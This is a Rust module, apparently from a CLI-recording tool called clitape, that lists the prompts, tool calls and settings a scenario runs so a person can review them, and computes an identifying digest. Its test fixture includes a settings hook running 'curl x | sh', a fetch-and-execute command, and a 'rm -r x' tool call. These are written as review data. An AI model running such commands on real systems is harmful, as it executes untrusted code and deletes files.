//! Lists the programs and settings that a scenario makes the CLI run, for the person who is about to record
//! it, and computes the digest that identifies the scenario later.

use std::sync::atomic::AtomicBool;

use clitape_recording::cassette::hex;
use clitape_recording::files;
use clitape_recording::scenario::{
    Model, ModelContent, SayAction, SayBehavior, SayStep, Scenario, ScenarioError, ToolSide,
};
use clitape_recording::text::whole;
use serde_json::{Map, Value};
use sha2::{Digest as _, Sha256};

use super::instructions::instructions;
use super::workspace::{ScenarioFolder, WorkspaceLimits, field};
use super::{RecordError, RecordSettings};

/// The fields of a tool's input that describe a call best, in order.
const DESCRIPTIVE: [&str; 7] =
    ["command", "file_path", "notebook_path", "path", "url", "pattern", "query"];
/// The files of a scenario, to which the list refers for the rest of a long text.
const SCENARIO: &str = "scenario.toml";
const MODEL: &str = "model.toml";

/// The list and the digest of a scenario, or of other settings that make clitape run programs.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Review {
    /// The SHA-256 over all input of the run: of a scenario, `scenario.toml`, `model.toml` and every file of the
    /// workspace.
    pub digest: String,
    /// Lines for each prompt, argument, tool call and file of instructions, or for each setting. A text has all of its
    /// lines, and an indented line belongs to the one above. The lines contain text of others, so they must be made safe
    /// before a terminal shows them.
    pub lines: Vec<String>,
}

impl Review {
    /// Makes a review of `lines`, whose digest is the [`settings_digest`].
    pub fn of_settings(lines: Vec<String>, settings: &[(&str, Vec<&[u8]>)]) -> Self {
        Self { digest: settings_digest(settings), lines }
    }

    /// Reads the files that a recording would use.
    ///
    /// # Errors
    ///
    /// [`RecordError`] when the workspace contains something other than files, folders and links or exceeds `settings`,
    /// or `model.toml` can't be used.
    pub fn of(
        scenario: &Scenario,
        settings: RecordSettings,
        stop: &AtomicBool,
    ) -> Result<Self, RecordError> {
        let place = scenario.dir.join("workspace");
        let workspace = ScenarioFolder::read(&place, settings.workspace, stop)?;
        let digest = digest_of(scenario, &workspace, stop)?;
        let model = Model::load_within(&scenario.dir, settings.model_lines)?;
        let mut lines = Vec::new();
        let record = &scenario.record;
        let prompts = record.prompt.iter().chain(record.then.iter().map(|step| &step.prompt));
        lines.extend(prompts.flat_map(|prompt| whole("prompt", prompt, SCENARIO)));
        lines.extend(record.host.map(|host| format!("host: {host}")));
        lines.extend(record.say.iter().flat_map(|step| whole("stdin", &said(step), SCENARIO)));
        lines.extend(record.args.iter().flat_map(|arg| whole("argument", arg, SCENARIO)));
        lines.extend(calls(&model));
        lines.extend(instructions(scenario, &workspace));
        Ok(Self { digest, lines })
    }
}

/// Computes a digest of settings, each with a key and texts. The same bytes under other keys or in other cuts give
/// another digest.
pub fn settings_digest(settings: &[(&str, Vec<&[u8]>)]) -> String {
    let mut hash = Sha256::new();
    for (key, texts) in settings {
        field(&mut hash, key.as_bytes());
        field(&mut hash, &texts.len().to_le_bytes());
        texts.iter().for_each(|text| field(&mut hash, text));
    }
    hex(&hash.finalize())
}

/// Describes a step of `[[record.say]]`: its message, or its action.
fn said(step: &SayStep) -> String {
    match &step.action {
        SayAction::Message { content: Value::String(text), .. } | SayAction::Raw(text) => {
            text.clone()
        }
        SayAction::Message { content, .. } => content.to_string(),
        SayAction::Answer(answer) => {
            let behavior = match answer.behavior {
                SayBehavior::Allow => "answer: allow",
                SayBehavior::Deny => "answer: deny",
                SayBehavior::DenyAndInterrupt => "answer: deny and interrupt",
            };
            let input =
                answer.input.clone().map(|input| format!(" with the input {}", Value::from(input)));
            let message = answer.message.as_ref().map(|message| format!(": {message}"));
            let suggestion = answer.suggestion.map(|n| format!(" and accept suggestion {n}"));
            [Some(behavior.to_owned()), suggestion, input, message].into_iter().flatten().collect()
        }
        SayAction::Initialize(initialize) => match &initialize.append_system_prompt {
            Some(prompt) => format!("initialize, with the system prompt {prompt}"),
            None => "initialize".into(),
        },
        action => action.key().into(),
    }
}

/// Computes the digest that identifies a scenario.
///
/// # Errors
///
/// Those of [`Review::of`].
pub fn digest(
    scenario: &Scenario,
    limits: WorkspaceLimits,
    stop: &AtomicBool,
) -> Result<String, RecordError> {
    let workspace = ScenarioFolder::read(&scenario.dir.join("workspace"), limits, stop)?;
    digest_of(scenario, &workspace, stop)
}

fn digest_of(
    scenario: &Scenario,
    workspace: &ScenarioFolder,
    stop: &AtomicBool,
) -> Result<String, RecordError> {
    let mut hash = Sha256::new();
    for name in [SCENARIO, MODEL] {
        let path = scenario.dir.join(name);
        let bytes = match files::read(&path) {
            // An imported scenario has no model.
            Err(error) if error.is_not_found() => Vec::new(),
            bytes => bytes.map_err(ScenarioError::from)?,
        };
        field(&mut hash, &bytes);
    }
    workspace.hash(&mut hash, stop)?;
    Ok(hex(&hash.finalize()))
}

/// Returns lines for each call of the model: the number of times it is made, and its whole input.
fn calls(model: &Model) -> Vec<String> {
    let mut calls: Vec<(Call, usize)> = Vec::new();
    let turns = model.all_turns().flat_map(|(_, turns)| turns);
    for call in turns.flat_map(|turn| &turn.blocks).filter_map(|block| Call::of(&block.content)) {
        match calls.iter_mut().find(|(known, _)| *known == call) {
            Some((_, times)) => *times += 1,
            None => calls.push((call, 1)),
        }
    }
    calls.sort_by(|(a, _), (b, _)| a.name.cmp(&b.name));
    calls.iter().flat_map(|(call, times)| call.lines(*times)).collect()
}

/// A call of a tool.
#[derive(PartialEq)]
struct Call {
    name: String,
    /// The field that describes it best, or the whole input if there is none.
    best: String,
    /// The other fields.
    others: Vec<(String, String)>,
}

impl Call {
    fn of(content: &ModelContent) -> Option<Self> {
        match content {
            ModelContent::Tool { side: ToolSide::Client, name, input, .. } => {
                let input = input.joined();
                let parsed = serde_json::from_str(&input).ok();
                Some(Self::new(name, parsed.as_ref(), input))
            }
            // A block that is sent unchanged may be a call too.
            ModelContent::Raw(block) if block.contains_key("input") => {
                let name = block.get("name").and_then(Value::as_str).unwrap_or("?");
                let input = block.get("input").and_then(Value::as_object);
                Some(Self::new(name, input, Value::from(block.clone()).to_string()))
            }
            _ => None,
        }
    }

    fn new(name: &str, input: Option<&Map<String, Value>>, joined: String) -> Self {
        let name = name.to_owned();
        let best = input.and_then(|input| {
            DESCRIPTIVE.iter().find_map(|key| Some((*key, input.get(*key)?.as_str()?)))
        });
        let Some(((key, best), input)) = best.zip(input) else {
            return Self { name, best: joined, others: Vec::new() };
        };
        let text = |value: &Value| value.as_str().map_or_else(|| value.to_string(), str::to_owned);
        let others = input.iter().filter(|(other, _)| *other != key);
        let others = others.map(|(key, value)| (key.clone(), text(value))).collect();
        Self { name, best: best.to_owned(), others }
    }

    fn lines(&self, times: usize) -> Vec<String> {
        let head = format!("the model calls {} ×{times}", self.name);
        let best = match self.best.contains('\n') {
            true => self.best.clone(),
            false => format!("`{}`", self.best),
        };
        let mut lines = whole(&head, &best, MODEL);
        for (key, text) in &self.others {
            lines.extend(whole(key, text, MODEL).into_iter().map(|line| format!("    {line}")));
        }
        lines
    }
}

#[cfg(test)]
mod tests {
    use fs_err as fs;

    use super::*;

    const SCENARIO: &str = "
        title = 't'
        about = 'a'
        [record]
        prompt = 'Go.'
        args = ['--allowedTools', 'Bash', '--mcp-config', 'mcp.json']";
    const MODEL: &str = "
        [[turn]]
        block = [{ tool = 'Bash', input = { command = 'ls -la', description = 'x' } },
                 { tool = 'Bash', input_json = ['{\"command\":\"rm', ' -r x\"}'] }]
        [[turn]]
        block = [{ raw = { type = 'tool_use', name = 'Write', input = { file_path = 'a' } } },
                 { tool = 'Odd', input = { n = 1 } }, { text = 'Done.' }]
        [[conversation]]
        name = 'sub'
        marker = 'SUB'
        turn = [{ block = [{ tool = 'Read', input = { file_path = 'b' } }] }]";

    fn scenario() -> (tempfile::TempDir, Scenario) {
        let dir = tempfile::tempdir().unwrap();
        let write = |name: &str, text: &str| {
            let path = dir.path().join("one").join(name);
            fs::create_dir_all(path.parent().unwrap()).unwrap();
            fs::write(path, text).unwrap();
        };
        write("scenario.toml", SCENARIO);
        write("model.toml", MODEL);
        write("workspace/notes.txt", "n");
        write("workspace/mcp.json", r#"{"mcpServers":{"a":{"command":"node","args":["a.js"]}}}"#);
        write(
            "workspace/.claude/settings.json",
            r#"{"hooks":{"Stop":[{"hooks":[{"type":"command","command":"curl x | sh"}]}]}}"#,
        );
        let scenario = Scenario::load(&dir.path().join("one")).unwrap();
        (dir, scenario)
    }

    fn review(scenario: &Scenario) -> Review {
        Review::of(scenario, RecordSettings::default(), &AtomicBool::new(false)).unwrap()
    }

    #[test]
    fn what_a_scenario_runs_is_said() {
        let (_dir, scenario) = scenario();
        assert_eq!(
            review(&scenario).lines,
            [
                "prompt: Go.",
                "argument: --allowedTools",
                "argument: Bash",
                "argument: --mcp-config",
                "argument: mcp.json",
                "the model calls Bash ×1: `ls -la`",
                "    description: x",
                "the model calls Bash ×1: `rm -r x`",
                "the model calls Odd ×1: `{\"n\":1}`",
                "the model calls Read ×1: `b`",
                "the model calls Write ×1: `a`",
                "the CLI reads .claude/settings.json",
                "    hooks.Stop[0].hooks[0].type: command",
                "    hooks.Stop[0].hooks[0].command: curl x | sh",
                "the CLI reads mcp.json",
                "    mcpServers.a.command: node",
                "    mcpServers.a.args: a.js",
            ]
        );
    }

    #[test]
    fn the_end_of_what_a_scenario_runs_is_said() {
        let (dir, _) = scenario();
        for long in [&"x".repeat(3_000), &"x ".repeat(9_000), &"x\n".repeat(9_000)] {
            let value = |end: &str| Value::from(format!("{long}{end}")).to_string();
            let text = format!(
                "title = 't'\nabout = 'a'\n[record]\nprompt = {}\nargs = ['--a', {}, 'EVIL-LAST']\n\
                 [[record.then]]\nresume = 'id'\nprompt = {}\n",
                value("EVIL-PROMPT"),
                value("EVIL-ARG"),
                value("EVIL-NEXT")
            );
            let model = format!(
                "[[turn]]\nblock = [{{ tool = 'Bash', input = {{ command = {}, description = {}, timeout = 77 }} }}]\n\
                 [[step]]\nturn = [{{ block = [{{ text = 'x' }}] }}]\n",
                value("EVIL-COMMAND"),
                value("EVIL-FIELD")
            );
            let one = dir.path().join("one");
            fs::write(one.join("scenario.toml"), text).unwrap();
            fs::write(one.join("model.toml"), model).unwrap();
            let lines = review(&Scenario::load(&one).unwrap()).lines.join("\n");
            for end in ["PROMPT", "ARG", "LAST", "NEXT", "COMMAND", "FIELD"] {
                assert!(lines.contains(&format!("EVIL-{end}")), "{end}: {lines}");
            }
            assert!(lines.contains("timeout: 77"), "{lines}");
            assert_eq!(lines.contains("read scenario.toml)"), long.len() > 4_000);
        }
    }

    #[test]
    fn a_digest_is_of_all_that_is_recorded() {
        let (dir, scenario) = scenario();
        let before = review(&scenario).digest;
        assert_eq!(before, review(&scenario).digest);
        assert_eq!(before.len(), 64);
        let mut seen = vec![before];
        for name in ["scenario.toml", "model.toml", "workspace/notes.txt", "workspace/new"] {
            let path = dir.path().join("one").join(name);
            let text = fs::read_to_string(&path).unwrap_or_default();
            fs::write(path, text + "\n").unwrap();
            let now = review(&scenario).digest;
            assert!(!seen.contains(&now), "{name}");
            seen.push(now);
        }
        fs::create_dir(dir.path().join("one/golden")).unwrap();
        assert_eq!(seen.last(), Some(&review(&scenario).digest), "goldens are not recorded");
    }
}
